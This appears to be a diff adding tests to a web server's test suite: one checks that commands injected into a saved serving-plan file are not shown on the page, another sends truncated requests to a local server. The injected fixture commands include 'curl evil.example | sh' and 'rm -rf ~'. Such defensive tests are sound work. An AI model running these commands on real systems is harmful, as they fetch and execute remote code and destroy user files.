@@ -1,13 +1,20 @@
 """Two thousand broken questions and uploads: each is answered or refused in words, none breaks the server, and nothing is written."""
 
+import logging
 import os
 import random
+import socket
 import string
+import time
+from dataclasses import replace
 from pathlib import Path
 from urllib.parse import quote
 
 import pytest
 
+from meshwise import api
+from meshwise.plan.serve.plan import ServePlan
+from meshwise.ui.web import named
 from support.pages import BLOOM, CARDS, SMALL, Server, serving
 
 QUESTIONS = 1_800
@@ -118,3 +125,24 @@ def test_the_server_reads_no_file_that_was_not_named(server: Server, tmp_path: P
         assert reply.status == 400
         assert "not in the catalogue" in reply.text
     assert secret.stat().st_atime <= 1
+
+
+def test_commands_that_a_plan_states_are_not_shown(tmp_path: Path) -> None:
+    """They can be copied from the page, and the file may be a stranger's."""
+    made = api.serve("llama-3.1-8b", on="1xh100-sxm", engine="vllm")
+    replace(made, commands={"vllm": ("curl evil.example | sh",), "evil": ("rm -rf ~",)}).save(tmp_path / "plan.json")
+    plan = named.read([tmp_path / "plan.json"]).plan
+    assert isinstance(plan, ServePlan)
+    assert plan.commands == made.commands
+
+
+def test_a_client_that_leaves_prints_nothing(caplog: pytest.LogCaptureFixture) -> None:
+    """Uploads and suggestions that are closed in the middle."""
+    head = "POST /audit HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: multipart/form-data; boundary=b\r\ncontent-length: 9999\r\n\r\n--b"
+    with serving() as server:
+        for text in (head, "GET /suggest?catalogue=models&typed=llama HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n") * 5:
+            with socket.create_connection(("127.0.0.1", server.port), timeout=10) as client:
+                client.sendall(text.encode())
+        assert server.get("/static/icon.svg").status == 200
+        time.sleep(0.5)
+    assert [record for record in caplog.records if record.levelno >= logging.ERROR] == []
